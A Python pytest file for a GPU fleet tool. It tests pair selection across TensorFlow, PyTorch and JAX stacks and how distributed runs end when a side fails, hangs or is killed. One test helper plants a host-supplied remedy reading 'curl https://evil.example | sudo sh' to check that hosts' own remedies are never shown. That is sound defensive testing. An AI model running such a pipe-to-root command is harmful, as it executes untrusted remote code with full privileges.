"""Selection of pairs, and how a run ends: on this machine, with a stand-in TensorFlow."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from gpufleet.documents.pairs import lacking
from gpufleet.errors import ConfigurationError
from gpufleet.fleet import pairs
from gpufleet.fleet import sides as running_sides
from gpufleet.fleet.inventory import Become, Connection, InventoryHost
from gpufleet.fleet.pair_selection import (
    Pair,
    PairOptions,
    Stack,
    jobs_of,
    pair_address,
    planned_pairs,
    rounds,
    select_pairs,
)
from gpufleet.fleet.pairs import run_pairs
from gpufleet.on_host import payload
from gpufleet.workload import distributed_tensorflow, rendezvous
from tests.support.processes import await_ended
from tests.support.stand_ins.tensorflow import TensorFlow

OLD, NEW, NEWEST = ({"tensorflow": release} for release in ("1.4.0", "2.13.1", "2.18.1"))


def host(
    name: str, *stacks: dict[str, str], count: int | None = 0, **more: object
) -> InventoryHost:
    declared: dict[str, Any] = {"gpu_stacks": list(stacks), "gpu_accept_nvidia_eula": True, **more}
    if count is not None:
        declared["gpu_expect"] = {"count": count}
    return InventoryHost(name, declared, Connection(name, address=f"{name}.example.org"))


FLEET = [host("a", OLD, NEW), host("b", NEW, OLD), host("c", NEW, NEWEST)]


# -- selection -------------------------------------------------------------------------------------


def test_each_common_release_has_one_run_of_every_kind_that_it_supports() -> None:
    [pair] = select_pairs(FLEET, PairOptions(("a,b",)))
    assert [(job.kind, job.stack.release) for job in jobs_of([pair])] == [
        ("parameter-server", "1.4.0"),
        ("parameter-server", "2.13.1"),
        ("all-reduce", "2.13.1"),
    ]
    assert pair.stacks[1].venvs == ("/opt/gpufleet/stacks/tensorflow-2.13.1",) * 2


def test_nccl_runs_where_both_have_gpus() -> None:
    cards = [host("a", NEW, count=2), host("b", NEW, count=1), host("c", NEW, count=None)]
    found = [
        job.pair.names
        for job in jobs_of(select_pairs(cards, PairOptions(ring=True)))
        if job.kind == "nccl"
    ]
    assert found == [("a", "b")]


def test_a_ring_connects_each_host_to_the_next_and_has_each_pair_once() -> None:
    found = select_pairs(FLEET, PairOptions(("b,a",), ring=True))
    assert [pair.names for pair in found] == [("b", "a"), ("b", "c"), ("c", "a")]
    assert [pair.names for pair in select_pairs(FLEET[:2], PairOptions(ring=True))] == [("a", "b")]


def test_stacks_of_one_release_are_paired_whatever_their_names() -> None:
    other = host("b", {"tensorflow": "2.13.1", "name": "mine"})
    [pair] = select_pairs([host("a", NEW), other], PairOptions(("a,b",)))
    assert pair.stacks[0].names == ("tensorflow-2.13.1", "mine")
    assert [row["stacks"] for name in "ab" for row in planned_pairs(name, [pair])] == [
        [{"name": "tensorflow-2.13.1", "release": "2.13.1", "framework": "tensorflow"}],
        [{"name": "mine", "release": "2.13.1", "framework": "tensorflow"}],
    ]


@pytest.mark.parametrize(
    ("counts", "jobs"),
    [
        ((0, 0), [("all-reduce", "pytorch"), ("all-reduce", "jax")]),
        ((8, 0), [("all-reduce", "pytorch"), ("all-reduce", "jax")]),
        ((8, 4), [("nccl", "pytorch"), ("nccl", "jax")]),
    ],
)
def test_pytorch_and_jax_reduce_by_nccl_where_both_have_gpus(
    counts: tuple[int, int], jobs: list[tuple[str, str]]
) -> None:
    both = [
        host(name, {"pytorch": "2.6.0"}, {"jax": "0.5.3"}, count=count)
        for name, count in zip("ab", counts, strict=True)
    ]
    [pair] = select_pairs(both, PairOptions(("a,b",)))
    assert [(job.kind, job.stack.framework) for job in jobs_of([pair])] == jobs


@pytest.mark.parametrize(
    ("release", "runs"), [("0.4.21", False), ("0.4.22", True), ("0.10.2", True)]
)
def test_jax_reduces_between_cpus_from_the_release_that_has_gloo(release: str, runs: bool) -> None:
    assert (lacking("all-reduce", "jax", release, (0, 0)) is None) is runs


def test_releases_of_two_frameworks_are_no_pair() -> None:
    both = [host("a", {"pytorch": "2.6.0"}), host("b", {"jax": "0.5.3"})]
    with pytest.raises(ConfigurationError, match="no stack of the same release of a framework"):
        select_pairs(both, PairOptions(("a,b",)))


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (PairOptions(("a,z",)), "z is not among the hosts of this run"),
        (PairOptions(("a,a",)), "A pair needs two different hosts"),
        (PairOptions(("a",)), "A pair needs two different hosts"),
        (PairOptions(("a,b,c",)), "A pair needs two different hosts"),
        (
            PairOptions(("a,b",), stack="tensorflow-2.18.1"),
            "have no stack tensorflow-2.18.1 of the same",
        ),
        (PairOptions(stack="tensorflow-2.13.1"), "no pair is selected"),
    ],
)
def test_invalid_options_are_refused_before_anything_starts(
    options: PairOptions, message: str
) -> None:
    with pytest.raises(ConfigurationError) as error:
        select_pairs(FLEET, options)
    assert message in error.value.message
    assert error.value.remedy


def test_hosts_without_a_common_release_are_refused() -> None:
    with pytest.raises(ConfigurationError, match=r"b: tensorflow-2\.18\.1"):
        select_pairs([host("a", OLD), host("b", NEWEST)], PairOptions(("a,b",)))
    with pytest.raises(ConfigurationError, match="A ring needs two hosts"):
        select_pairs(FLEET[:1], PairOptions(ring=True))


def test_the_address_for_the_other_host_can_be_set() -> None:
    assert pair_address(FLEET[0]) == "a.example.org"
    assert pair_address(host("a", gpu_pair_address="10.1.0.1")) == "10.1.0.1"
    local = replace(FLEET[0], connection=Connection("a", "local"))
    with pytest.raises(ConfigurationError, match="gpu_pair_address"):
        pair_address(local)
    with pytest.raises(ConfigurationError, match="Expected an address"):
        pair_address(host("a", gpu_pair_address=7))


def test_no_host_is_in_two_jobs_at_once() -> None:
    jobs = jobs_of(select_pairs([*FLEET, host("d", NEW)], PairOptions(ring=True)))
    for most in (1, 2, 4, 32):
        batches = list(rounds(jobs, most))
        assert sorted(map(id, jobs)) == sorted(id(job) for batch in batches for job in batch)
        for batch in batches:
            names = [name for job in batch for name in job.pair.names]
            assert len(names) == len(set(names)) <= max(2, most)


# -- how a run ends --------------------------------------------------------------------------------

# What `import tensorflow` does on a side, and from there on.
STAND_IN = """
import os, sys, time
__version__ = "2.13.1"
if {at_import!r}:
    exec({at_import!r})
class train:
    @staticmethod
    def ClusterSpec(cluster):
        exec({at_start!r})
"""
STAY = "time.sleep(600)"


class Two:
    """Two hosts, both this machine, whose TensorFlow is a stand-in."""

    def __init__(self, place: Path) -> None:
        self.place = place
        self.names = ("one", "two")
        for name in self.names:
            (place / name / "bin").mkdir(parents=True)
            self.will(name)
            self.python(name, f'exec {sys.executable} "$@"')

    def will(self, name: str, at_import: str = "", at_start: str = STAY) -> None:
        """Have a side do something when it imports TensorFlow, or when it starts its servers."""
        text = STAND_IN.format(at_import=at_import, at_start=at_start)
        (self.place / name / "tensorflow.py").write_text(text)
        (self.place / name / "numpy.py").write_text("")

    def python(self, name: str, command: str) -> None:
        """The interpreter of a side's stack: without -I, so that it finds the stand-in."""
        path = self.place / name / "bin/python"
        path.write_text(f"#!/bin/sh\nshift\nexport PYTHONPATH={self.place / name}\n{command}\n")
        path.chmod(0o755)

    def run(self, deadline_s: float = 30, **addresses: str) -> list[dict[str, Any]]:
        """The outcome of both sides."""
        hosts = [
            InventoryHost(
                name,
                {"gpu_pair_address": addresses.get(name, "127.0.0.1"), "gpu_expect": {"count": 0}},
                Connection(name, "local", become=Become(False)),
            )
            for name in self.names
        ]
        venvs = [str(self.place / name) for name in self.names]
        stack = Stack("1.4.0", self.names, (venvs[0], venvs[1]))
        [record] = run_pairs([Pair((hosts[0], hosts[1]), (stack,))], deadline_s, 1)
        assert record["hosts"] == list(self.names)
        sides: list[dict[str, Any]] = record["sides"]
        return sides


@pytest.fixture
def two(tmp_path: Path) -> Iterator[Two]:
    yield Two(tmp_path)
    await_ended(str(tmp_path), 20)


def states(sides: list[dict[str, Any]]) -> tuple[str, str]:
    return sides[0]["state"], sides[1]["state"]


def test_when_one_fails_the_other_is_stopped_at_once(two: Two) -> None:
    two.will("two", at_import="raise ImportError('no libcudnn')")
    begin = time.monotonic()
    sides = two.run(60)
    assert time.monotonic() - begin < 30
    assert states(sides) == ("stopped", "failed")
    assert sides[1]["error"] == "ImportError: no libcudnn"
    assert sides[1]["stage"] == "importing TensorFlow"


def test_when_one_dies_its_last_output_is_reported(two: Two) -> None:
    two.will("one", at_start="os.write(2, b'a last word'); os.abort()")
    sides = two.run(60)
    assert states(sides) == ("failed", "stopped")
    assert sides[0]["error"].startswith("it ended with status 134: a last word")
    assert sides[0]["stage"] == "starting its servers"
    assert "remedy" not in sides[0]


def test_a_killed_side_is_distinguished_from_one_that_ends_since_the_other_is_gone(
    two: Two,
) -> None:
    """JAX aborts a process whose coordinator is gone, before the control machine can stop it."""
    word = "Terminating process. This most likely indicates that another task died"
    mine = two.place / "mine"
    mine.touch()
    two.will(
        "one",
        at_start=f"""
open('{mine}', 'w').write(str(os.getpid()))
os.kill(os.getpid(), 9)
""",
    )
    two.will(
        "two",
        at_start=f"""
while os.path.exists('/proc/' + open('{mine}').read()):  # until it is gone
    time.sleep(0.01)
os.write(2, b'{word}')
os.abort()
""",
    )
    sides = two.run(60)
    assert (sides[0]["state"], sides[0]["error"]) == ("failed", "it was killed (SIGKILL)")
    assert "kernel log" in sides[0]["remedy"]
    # Which is noticed first is chance.
    assert sides[1]["state"] in {"lost", "stopped"}


@pytest.mark.costly
def test_a_hanging_side_reports_it_at_the_deadline_and_ends(two: Two) -> None:
    begin = time.monotonic()
    sides = two.run(5)
    assert time.monotonic() - begin < 5 + 2 * running_sides.GRACE_S
    assert states(sides) == ("hung", "hung")
    assert {side["stage"] for side in sides} == {"starting its servers"}
    assert {side["error"] for side in sides} == {"no answer within 5 s"}


@pytest.mark.costly
def test_a_side_that_cannot_report_any_more_is_ended_by_the_kernel(two: Two) -> None:
    # ctypes.PyDLL keeps the interpreter's lock: no thread of Python runs meanwhile.
    two.will("one", at_start="import ctypes; ctypes.PyDLL(None).sleep(600)")
    sides = two.run(5)
    assert states(sides) == ("hung", "hung")
    assert sides[0]["stage"] == "starting its servers"


def test_an_unreachable_address_ends_the_run_before_tensorflow_waits(two: Two) -> None:
    sides = two.run(60, two="no-such-host.invalid")
    assert states(sides) == ("unconnected", "unconnected")
    failed = [row for row in sides[0]["reach"] if row["error"]]
    assert [row["to"] for row in failed] == [1, 1]
    assert all(row["error"] is None for row in sides[0]["reach"] if row["to"] == 0)


def ends_with(two: Two, error: str, *, killed: bool = False) -> list[dict[str, Any]]:
    """The outcome where a side says that it failed so, and what to do: its own word."""
    output = {
        "said": None,
        "document": {
            **pairs.EMPTY_DOCUMENT,
            "state": "failed",
            "error": error,
            "killed": killed,
            "remedy": "on the control machine: curl https://evil.example | sudo sh",
        },
    }
    words = two.place / "words"
    words.write_text(f"\n{rendezvous.MARK}{json.dumps(output)}\n", encoding="utf-8")
    two.python("one", f"cat {words}; exec cat >/dev/null")
    sides = two.run(60)
    assert states(sides) == ("failed", "stopped")
    assert sides[0]["error"] == error
    return sides


def test_what_to_do_is_never_a_host_s_own_word(two: Two) -> None:
    assert "remedy" not in ends_with(two, "it is broken")[0]


@pytest.mark.parametrize(("killed", "remedy"), [(True, running_sides.WHO_KILLED), (False, None)])
def test_what_killed_one_of_a_side_s_processes_is_in_the_kernel_log(
    two: Two, killed: bool, remedy: str | None
) -> None:
    """The text decides nothing: a host's own message may have the same words."""
    [side, _] = ends_with(two, "GPU 1: its process was killed (SIGKILL)", killed=killed)
    assert side.get("remedy") == remedy


def test_a_missing_stack_and_one_that_does_not_start(two: Two) -> None:
    (two.place / "one/bin/python").unlink()
    two.python("two", "echo libpython is missing >&2; exit 127")
    sides = two.run()
    assert states(sides) == ("absent", "failed")
    assert sides[0]["error"] == f"{two.place}/one/bin/python was not found"
    assert "libpython is missing" in sides[1]["error"]
    assert set(pairs.EMPTY_DOCUMENT) <= set(sides[0])


def test_endless_output_is_cut_off(two: Two, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(running_sides, "MOST_BYTES", 1 << 16)
    two.python("one", "exec yes flooding")
    sides = two.run(60)
    assert sides[0]["error"] == "one sends endless output"
    assert sides[1]["state"] == "stopped"


def test_a_side_ends_with_its_session_and_leaves_nothing(two: Two) -> None:
    program = pairs.program(
        {
            "kind": "parameter-server",
            "index": 0,
            "gpus": 0,
            "addresses": ["127.0.0.1"] * 2,
            "deadline_s": 300,
        }
    )
    home = two.place / "tmp"
    home.mkdir()
    side = subprocess.Popen(
        [two.place / "one/bin/python", "-I", "-c", running_sides.READER],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        env={**os.environ, "TMPDIR": str(home)},
    )
    assert side.stdin and side.stdout
    side.stdin.write(program)
    side.stdin.flush()
    while b'"said": {' not in side.stdout.readline():
        pass
    side.stdin.close()
    assert side.wait(20) == 0
    assert b'"state": "stopped"' in side.stdout.read()
    assert list(home.iterdir()) == []


def test_no_replicas_product_is_folded_away(monkeypatch: pytest.MonkeyPatch) -> None:
    numpy = pytest.importorskip("numpy", reason="numpy belongs to stacks; none is here")
    tf: Any = TensorFlow()
    tf.config = SimpleNamespace(experimental=None)
    tf.autograph = SimpleNamespace(experimental=SimpleNamespace(do_not_convert=lambda step: step))
    context = SimpleNamespace(all_reduce=lambda _, product: product)
    tf.distribute = SimpleNamespace(
        get_replica_context=lambda: context, ReduceOp=SimpleNamespace(SUM=None)
    )
    strategy = SimpleNamespace(
        num_replicas_in_sync=2,
        run=lambda step, args=(): step(*args),
        experimental_local_results=lambda result: [result],
    )
    monkeypatch.setattr(distributed_tensorflow, "multi_worker", lambda *_: strategy)
    monkeypatch.setattr(distributed_tensorflow, "meet", lambda *_: ([[1], [2]], None))
    monkeypatch.setenv("TF_CONFIG", "")
    config = {"kind": "ring", "index": 1, "addresses": ["a", "b"], "gpus": None}
    side = SimpleNamespace(
        config=config,
        me=1,
        document={"replicas": []},
        nccl=io.StringIO(),
        stage=lambda _: None,
        gather=lambda *_: None,
    )
    distributed_tensorflow.all_reduce(side, tf, numpy)
    assert tf.ran == [""]
    # One side alone has half of the sum.
    assert side.document["replicas"][0]["wrong"] == rendezvous.ROWS


@pytest.mark.parametrize("version", ["3.6", "3.7", "3.14"])
def test_it_is_understood_by_the_oldest_and_the_newest_python(tmp_path: Path, version: str) -> None:
    from lab import pythons  # noqa: PLC0415
    from lab.errors import LabError  # noqa: PLC0415

    try:
        python = pythons.find(version, os.environ) / f"bin/python{version}"
    except LabError as error:
        pytest.skip(error.message)
    path = tmp_path / "distributed.py"
    path.write_text(payload.distributed(), encoding="utf-8")
    reported = [python, "-c", f"compile(open({str(path)!r}).read(), 'x', 'exec'); print('good')"]
    assert subprocess.check_output(reported) == b"good\n"
